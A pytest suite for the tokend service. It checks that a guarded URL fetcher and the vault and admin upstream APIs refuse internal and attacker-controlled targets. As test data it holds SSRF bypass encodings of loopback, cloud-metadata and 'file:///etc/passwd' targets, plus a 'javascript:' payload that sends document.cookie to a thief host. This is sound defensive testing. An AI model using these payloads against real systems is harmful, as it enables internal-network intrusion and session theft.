"""Outbound calls as an attacker aims them (security review item 8, DESIGN "one guarded URL
fetcher"): the guarded client refuses internal targets however they are spelt or resolved,
connects to the address it checked, follows no redirect and reads bounded answers; a real
``tokend serve`` refuses vault clients whose issuer or webhook points inside, and discovery
documents that send a browser to ``javascript:`` or the client's secret to another origin; the
same for the provider's upstream identity providers added through ``/admin/upstreams``.

The targets are real servers on loopback, so a refusal is visible as a request that never came.
"""

from __future__ import annotations

import asyncio
import gzip
import secrets
from asyncio import StreamReader, StreamWriter
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator, Sequence
from dataclasses import dataclass, field
from ipaddress import ip_address
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, RedirectResponse, Response, StreamingResponse
from starlette.routing import Route

from tests.conftest import TEST_SECRET_KEY
from tests.e2e.server import TOKEND, Server, free_port, migrate, start, tokend_env
from tests.secrets_seen import SecretsSeen
from tests.unit.broker.servers import serving
from tokend.core.http import (
    GuardedClient,
    OutboundRefused,
    OutboundTimeout,
    ResponseLimits,
    ResponseTooLarge,
)
from tokend.core.outbound import Address, OutboundPolicy

MIB = 1024 * 1024


@dataclass
class Peer:
    """An upstream on loopback that counts what reaches it."""

    url: str = ""
    hits: list[str] = field(default_factory=list)
    hosts: list[str] = field(default_factory=list)

    def app(self) -> Starlette:
        return Starlette(
            routes=[
                Route("/", self.ok),
                Route("/secret", self.ok),
                Route("/redirect", self.redirect),
                Route("/big", self.big),
                Route("/chunked", self.chunked),
                Route("/gzip", self.gzipped),
                Route("/drip", self.drip),
            ]
        )

    def _seen(self, request: Request) -> None:
        self.hits.append(request.url.path)
        self.hosts.append(request.headers.get("host", ""))

    async def ok(self, request: Request) -> Response:
        self._seen(request)
        return JSONResponse({"ok": True})

    async def redirect(self, request: Request) -> Response:
        self._seen(request)
        return RedirectResponse(f"{self.url}/secret", status_code=302)

    async def big(self, request: Request) -> Response:
        self._seen(request)
        return Response(b"x" * (2 * MIB))

    async def chunked(self, request: Request) -> Response:
        self._seen(request)

        async def chunks() -> AsyncIterator[bytes]:
            for _ in range(32):
                yield b"x" * (64 * 1024)

        return StreamingResponse(chunks())

    async def gzipped(self, request: Request) -> Response:
        self._seen(request)
        # 64 KiB on the wire, 64 MiB once decoded.
        body = gzip.compress(b"\0" * (64 * MIB))
        return Response(body, headers={"Content-Encoding": "gzip"})

    async def drip(self, request: Request) -> Response:
        self._seen(request)

        async def chunks() -> AsyncIterator[bytes]:
            for _ in range(100):
                yield b"."
                await asyncio.sleep(0.1)

        return StreamingResponse(chunks())


@pytest.fixture
def peer() -> Iterator[Peer]:
    upstream = Peer()
    with serving(upstream.app()) as url:
        upstream.url = url
        yield upstream


def port_of(url: str) -> int:
    port = httpx.URL(url).port
    assert port is not None
    return port


def fake_dns(answers: dict[str, Sequence[str]], asked: list[str] | None = None) -> Any:
    """A resolver standing in for DNS: ``answers`` by name (the test's attacker's zone)."""

    async def resolve(host: str, port: int) -> list[Address]:
        if asked is not None:
            asked.append(host)
        if host not in answers:
            raise OSError(-2, "Name or service not known")
        return [ip_address(a) for a in answers[host]]

    return resolve


# -- the fetcher ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "http://127.0.0.1:{port}/",
        "https://127.0.0.1:{port}/",
        "https://localhost:{port}/",  # a name that resolves to loopback
        "https://2130706433:{port}/",  # 127.0.0.1 as one decimal number
        "https://0x7f000001:{port}/",
        "https://017700000001:{port}/",  # the same in octal
        "https://127.1:{port}/",
        "https://[::1]:{port}/",
        "https://[::ffff:127.0.0.1]:{port}/",  # IPv4-mapped loopback
        "https://[64:ff9b::7f00:1]:{port}/",  # loopback through NAT64
        "https://0.0.0.0:{port}/",  # Linux connects this to loopback
        "https://[::]:{port}/",
        "https://169.254.169.254/latest/meta-data/",  # cloud metadata
        "https://[fe80::1]/",
        "https://10.0.0.1/",
        "https://172.16.0.1/",
        "https://192.168.1.1/",
        "https://100.64.0.1/",  # CGNAT
        "https://[fd12:3456::1]/",  # RFC 4193 unique local
        "https://224.0.0.1/",
        "https://user:pass@example.com/",
        "file:///etc/passwd",
    ],
)
async def test_internal_targets_are_refused_before_any_connection(peer: Peer, target: str) -> None:
    async with GuardedClient() as http:
        with pytest.raises(OutboundRefused):
            await http.get(target.format(port=port_of(peer.url)))
    assert peer.hits == []


async def test_the_same_loopback_peer_is_reached_once_the_settings_allow_it(peer: Peer) -> None:
    async with GuardedClient(OutboundPolicy.allowing(f"127.0.0.1:{port_of(peer.url)}")) as http:
        assert (await http.get(f"{peer.url}/")).status_code == 200
        with pytest.raises(OutboundRefused):  # the entry names one port, not the host
            await http.get(f"http://127.0.0.1:{free_port()}/")
    assert peer.hits == ["/"]


@pytest.mark.parametrize(
    "answer",
    [
        ["10.1.2.3"],
        ["169.254.169.254"],
        ["127.0.0.1"],
        ["::ffff:127.0.0.1"],
        ["fd00::1"],
        # One public address does not vouch for the others: any refused address refuses.
        ["93.184.216.34", "127.0.0.1"],
    ],
)
async def test_a_name_resolving_inside_is_refused(peer: Peer, answer: list[str]) -> None:
    dns = fake_dns({"attacker.example": answer})
    async with GuardedClient(resolve=dns) as http:
        with pytest.raises(OutboundRefused, match=r"attacker\.example resolves to"):
            await http.get(f"https://attacker.example:{port_of(peer.url)}/")
    assert peer.hits == []


async def test_the_connection_goes_to_the_checked_address_without_a_second_lookup() -> None:
    """DNS rebinding: the attacker's zone answers an allowed address to the check and loopback
    to any later lookup; the one lookup's address is where the socket goes."""
    accepted: dict[str, int] = {"127.0.0.2": 0, "127.0.0.1": 0}

    def counting(
        host: str,
    ) -> Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]:
        async def count(_reader: StreamReader, writer: StreamWriter) -> None:
            accepted[host] += 1
            writer.close()

        return count

    port = free_port()
    servers = [await asyncio.start_server(counting(host), host, port) for host in accepted]
    asked: list[str] = []
    answers = [["127.0.0.2"], ["127.0.0.1"]]  # the first lookup's, then any later one's

    async def resolve(host: str, port: int) -> list[Address]:
        asked.append(host)
        return [ip_address(a) for a in answers[min(len(asked), len(answers)) - 1]]

    policy = OutboundPolicy.allowing("127.0.0.2/32")
    try:
        async with GuardedClient(policy, resolve=resolve) as http:
            with pytest.raises(httpx.TransportError) as caught:
                await http.get(f"https://rebind.example:{port}/")
    finally:
        for server in servers:
            server.close()
            await server.wait_closed()
    assert not isinstance(caught.value, OutboundRefused)  # checked, allowed, then connected
    assert asked == ["rebind.example"]
    assert accepted == {"127.0.0.2": 1, "127.0.0.1": 0}


async def test_a_listed_name_is_reached_at_the_address_the_resolver_gave(peer: Peer) -> None:
    dns = fake_dns({"operator.internal": ["127.0.0.1"]})
    port = port_of(peer.url)
    async with GuardedClient(OutboundPolicy.allowing("operator.internal"), resolve=dns) as http:
        assert (await http.get(f"http://operator.internal:{port}/")).status_code == 200
    assert peer.hosts == [f"operator.internal:{port}"]


async def test_redirects_are_never_followed(peer: Peer) -> None:
    async with GuardedClient(OutboundPolicy.allowing("127.0.0.1")) as http:
        answer = await http.get(f"{peer.url}/redirect")
        forced = await http.get(f"{peer.url}/redirect", follow_redirects=True)
    assert (answer.status_code, forced.status_code) == (302, 302)
    assert peer.hits == ["/redirect", "/redirect"]


@pytest.mark.parametrize("path", ["/big", "/chunked", "/gzip"])
async def test_oversized_answers_are_refused(peer: Peer, path: str) -> None:
    async with GuardedClient(OutboundPolicy.allowing("127.0.0.1")) as http:
        with pytest.raises(ResponseTooLarge):
            await http.get(f"{peer.url}{path}")
        # The same peer's small answer reads fine: the bound is what refused.
        assert (await http.get(f"{peer.url}/")).json() == {"ok": True}


async def test_an_answer_that_drips_forever_is_cut_off(peer: Peer) -> None:
    limits = ResponseLimits(max_duration_s=1.0)
    async with GuardedClient(OutboundPolicy.allowing("127.0.0.1"), limits=limits) as http:
        with pytest.raises(OutboundTimeout):
            await http.get(f"{peer.url}/drip")


def test_the_settings_open_exactly_what_they_say() -> None:
    private = OutboundPolicy.allowing(private_networks=True)
    assert private.address_refusal(ip_address("10.20.1.1")) is None
    assert private.address_refusal(ip_address("fd00::1")) is None
    assert private.address_refusal(ip_address("127.0.0.1")) == "a loopback address"
    assert private.address_refusal(ip_address("169.254.169.254")) == "a link-local address"
    assert private.refusal("http://10.20.1.1/") is not None  # https still required
    network = OutboundPolicy.allowing("10.20.0.0/16", "kong:8001")
    assert network.address_refusal(ip_address("10.20.1.1")) is None
    assert network.address_refusal(ip_address("10.21.0.1")) == "a private address"
    assert network.refusal("http://10.20.1.1/") is None
    assert network.refusal("http://kong:8001/consumers") is None
    assert network.refusal("http://kong:8444/") is not None
    assert network.refusal("http://keycloak/") is not None
    assert OutboundPolicy().refusal("https://accounts.google.com/") is None
    assert OutboundPolicy().refusal("https://bücher.example/") is None  # checked as punycode
    # What a URL parser may read as loopback, refused on the URL alone.
    for url in ("https://0177.0.0.1/", "https://0x7f.1/", "https://127.1/", "https://2130706433/"):
        assert OutboundPolicy().refusal(url) is not None, url


# -- a real server: the vault's clients and discovery ------------------------------------------


@dataclass
class Idp:
    """Discovery documents per tenant path, as an attacker controlling an issuer writes them."""

    url: str = ""
    documents: dict[str, dict[str, object]] = field(default_factory=dict)
    redirects: dict[str, str] = field(default_factory=dict)

    def app(self) -> Starlette:
        return Starlette(routes=[Route("/t/{name}/.well-known/openid-configuration", self.doc)])

    async def doc(self, request: Request) -> Response:
        name = request.path_params["name"]
        if name in self.redirects:
            return RedirectResponse(self.redirects[name], status_code=302)
        return JSONResponse(self.documents[name])

    def tenant(self, name: str, **endpoints: str) -> str:
        issuer = f"{self.url}/t/{name}"
        self.documents[name] = {
            "issuer": issuer,
            "authorization_endpoint": f"{issuer}/authorize",
            "token_endpoint": f"{issuer}/token",
            **endpoints,
        }
        return issuer


@dataclass
class Vault:
    server: Server
    idp: Idp
    thief: Peer

    def api(self) -> httpx.Client:
        return httpx.Client(base_url=self.server.base_url, timeout=20)


@pytest.fixture(scope="module")
def vault(tmp_path_factory: pytest.TempPathFactory, secrets_seen: SecretsSeen) -> Iterator[Vault]:
    tmp = tmp_path_factory.mktemp("outbound")
    secrets_seen.add_log_file(tmp / "vault.log")
    idp, thief = Idp(), Peer()
    with serving(idp.app()) as idp_url, serving(thief.app()) as thief_url:
        idp.url, thief.url = idp_url, thief_url
        # Only the IdP's and the thief's ports: every other loopback port stays refused, and the
        # thief is reachable, so only the discovery rules can keep a secret from it.
        allowed = f"127.0.0.1:{port_of(idp_url)},127.0.0.1:{port_of(thief_url)}"
        env = tokend_env(
            TOKEND_DATABASE__URL=f"sqlite+aiosqlite:///{tmp / 'vault.db'}",
            TOKEND_SECRET_KEY=TEST_SECRET_KEY,
            TOKEND_VAULT__OPEN_ACCESS="true",
            TOKEND_HTTP__ALLOW_HOSTS=allowed,
            TOKEND_LOG__FORMAT="json",
        )
        migrate(env)
        port = free_port()
        server = start(
            [*TOKEND, "serve", "--only", "vault", "--port", str(port)],
            env,
            port,
            tmp / "vault.log",
        )
        try:
            yield Vault(server, idp, thief)
        finally:
            server.stop()


def register(vault: Vault, **fields: str) -> httpx.Response:
    secret = SecretsSeen.instance().add("tenant-secret-" + secrets.token_hex(8))
    body = {
        "client_id": "app-" + secrets.token_hex(4),
        "client_secret": secret,
        "redirect_uri": "https://tenant.example/cb",
        "provider": "oidc",
        **fields,
    }
    with vault.api() as api:
        return api.post("/clients", json=body)


@pytest.mark.e2e
@pytest.mark.parametrize(
    ("name", "url"),
    [
        ("issuer", "http://127.0.0.1:{vault_port}"),  # the vault's own port: not allowed
        ("issuer", "http://127.0.0.1:{other_port}"),
        ("issuer", "https://localhost"),
        ("issuer", "http://169.254.169.254/latest"),
        ("issuer", "https://2130706433"),
        ("issuer", "https://[::ffff:127.0.0.1]"),
        ("webhook_url", "http://127.0.0.1:{other_port}/hook"),
        ("webhook_url", "https://10.0.0.5/hook"),
        ("webhook_url", "https://localhost/hook"),
        ("webhook_url", "javascript:alert(1)"),
    ],
)
def test_a_vault_client_pointing_inside_is_refused(vault: Vault, name: str, url: str) -> None:
    target = url.format(vault_port=port_of(vault.server.base_url), other_port=free_port())
    extra = {"webhook_secret": "w" * 32} if name == "webhook_url" else {}
    answer = register(vault, **{name: target}, **extra)
    assert answer.status_code == 422, answer.text
    assert any(error["loc"][-1] == name for error in answer.json()["detail"]), answer.text
    with vault.api() as api:
        stored = [c[name] for c in api.get("/clients", params={"limit": 500}).json()]
    assert target not in stored


@pytest.mark.e2e
def test_a_vault_client_cannot_be_moved_inside_later(vault: Vault) -> None:
    created = register(vault, issuer=vault.idp.tenant("moving"))
    assert created.status_code == 201, created.text
    pk = created.json()["client_id"]
    with vault.api() as api:
        moved = api.patch(f"/clients/{pk}", json={"issuer": "http://127.0.0.1:9/"})
        assert moved.status_code == 422, moved.text
        assert api.get(f"/clients/{pk}").json()["issuer"] == vault.idp.tenant("moving")


def start_connect(vault: Vault, issuer: str) -> httpx.Response:
    created = register(vault, issuer=issuer)
    assert created.status_code == 201, created.text
    with vault.api() as api:
        return api.get(f"/oauth/start/{created.json()['client_id']}")


@pytest.mark.e2e
def test_a_sound_discovery_document_is_used(vault: Vault) -> None:
    issuer = vault.idp.tenant("sound")
    started = start_connect(vault, issuer)
    assert started.status_code == 200, started.text
    assert started.json()["auth_url"].startswith(f"{issuer}/authorize?")


@pytest.mark.e2e
@pytest.mark.parametrize(
    "endpoints",
    [
        {"authorization_endpoint": "javascript:fetch('//thief/'+document.cookie)//"},
        {"authorization_endpoint": "data:text/html,<script>alert(1)</script>"},
        {"authorization_endpoint": "{thief}/authorize"},
        {"token_endpoint": "{thief}/token"},
        {"revocation_endpoint": "{thief}/revoke"},
    ],
)
def test_a_discovery_document_pointing_elsewhere_is_refused(
    vault: Vault, endpoints: dict[str, str]
) -> None:
    name = secrets.token_hex(4)
    filled = {k: v.format(thief=vault.thief.url) for k, v in endpoints.items()}
    started = start_connect(vault, vault.idp.tenant(name, **filled))
    assert started.status_code == 503, started.text
    assert "javascript" not in started.text
    assert "data:" not in started.text
    assert vault.thief.hits == []


@pytest.mark.e2e
def test_a_discovery_redirect_is_not_followed(vault: Vault) -> None:
    issuer = vault.idp.tenant("redirected")
    vault.idp.redirects["redirected"] = f"{vault.thief.url}/secret"
    started = start_connect(vault, issuer)
    assert started.status_code == 503, started.text
    assert vault.thief.hits == []


# -- a real server: the provider's upstream identity providers (admin API) ------------------------

UPSTREAM_ADMIN_TOKEN = "outbound-admin-" + secrets.token_hex(16)


@dataclass
class Provider:
    server: Server
    idp: Idp
    thief: Peer

    def admin(self) -> httpx.Client:
        return httpx.Client(
            base_url=self.server.base_url, timeout=20,
            headers={"Authorization": f"Bearer {UPSTREAM_ADMIN_TOKEN}"},
        )  # fmt: skip


@pytest.fixture(scope="module")
def provider(
    tmp_path_factory: pytest.TempPathFactory, secrets_seen: SecretsSeen
) -> Iterator[Provider]:
    tmp = tmp_path_factory.mktemp("outbound-oidc")
    secrets_seen.add_log_file(tmp / "oidc.log")
    secrets_seen.add(UPSTREAM_ADMIN_TOKEN)
    idp, thief = Idp(), Peer()
    with serving(idp.app()) as idp_url, serving(thief.app()) as thief_url:
        idp.url, thief.url = idp_url, thief_url
        allowed = f"127.0.0.1:{port_of(idp_url)},127.0.0.1:{port_of(thief_url)}"
        port = free_port()
        env = tokend_env(
            TOKEND_DATABASE__URL=f"sqlite+aiosqlite:///{tmp / 'oidc.db'}",
            TOKEND_SECRET_KEY=TEST_SECRET_KEY,
            TOKEND_ISSUER=f"http://127.0.0.1:{port}",
            TOKEND_MODULES="oidc",
            TOKEND_ADMIN_TOKEN=UPSTREAM_ADMIN_TOKEN,
            TOKEND_HTTP__ALLOW_HOSTS=allowed,
        )
        migrate(env)
        server = start([*TOKEND, "serve", "--port", str(port)], env, port, tmp / "oidc.log")
        try:
            yield Provider(server, idp, thief)
        finally:
            server.stop()


def add_upstream(provider: Provider, **fields: str) -> httpx.Response:
    secret = SecretsSeen.instance().add("upstream-secret-" + secrets.token_hex(8))
    body = {"id": "u" + secrets.token_hex(4), "name": "Upstream", "client_id": "tokend",
            "client_secret": secret, **fields}  # fmt: skip
    with provider.admin() as admin:
        return admin.post("/admin/upstreams", json=body)


@pytest.mark.e2e
@pytest.mark.parametrize(
    ("fields"),
    [
        {"issuer": "http://127.0.0.1:{server_port}"},  # tokend itself: not allowed
        {"issuer": "http://127.0.0.1:{other_port}"},
        {"issuer": "https://localhost"},
        {"issuer": "http://169.254.169.254/latest"},
        {"issuer": "https://2130706433"},
        {"issuer": "https://[::ffff:127.0.0.1]"},
        {"kind": "github", "issuer": "https://10.0.0.5"},
        {"kind": "github", "api_url": "http://169.254.169.254/api"},
    ],
)
def test_an_upstream_pointing_inside_is_refused_and_not_stored(
    provider: Provider, fields: dict[str, str]
) -> None:
    ports = {"server_port": port_of(provider.server.base_url), "other_port": free_port()}
    filled = {k: v.format(**ports) for k, v in fields.items()}
    answer = add_upstream(provider, **filled)
    assert answer.status_code == 422, answer.text
    with provider.admin() as admin:
        stored = admin.get("/admin/upstreams").json()
    assert all(u["issuer"] != filled.get("issuer") for u in stored)


@pytest.mark.e2e
def test_an_upstream_whose_discovery_sends_the_secret_elsewhere_is_refused(
    provider: Provider,
) -> None:
    sound = add_upstream(provider, issuer=provider.idp.tenant("sound-upstream"))
    assert sound.status_code == 201, sound.text
    for name, endpoints in (
        ("to-thief", {"token_endpoint": f"{provider.thief.url}/token"}),
        ("to-script", {"authorization_endpoint": "javascript:alert(1)//"}),
    ):
        refused = add_upstream(provider, issuer=provider.idp.tenant(name, **endpoints))
        assert refused.status_code == 422, refused.text
    provider.idp.redirects["redirected-upstream"] = f"{provider.thief.url}/secret"
    redirected = add_upstream(provider, issuer=provider.idp.tenant("redirected-upstream"))
    assert redirected.status_code == 422, redirected.text
    assert provider.thief.hits == []
    # Moved inside later: refused too, and the stored upstream is unchanged.
    upstream_id = sound.json()["id"]
    with provider.admin() as admin:
        moved = admin.patch(f"/admin/upstreams/{upstream_id}", json={"issuer": "https://10.1.1.1"})
        assert moved.status_code == 422, moved.text
        kept = admin.get(f"/admin/upstreams/{upstream_id}").json()["issuer"]
    assert kept == provider.idp.tenant("sound-upstream")
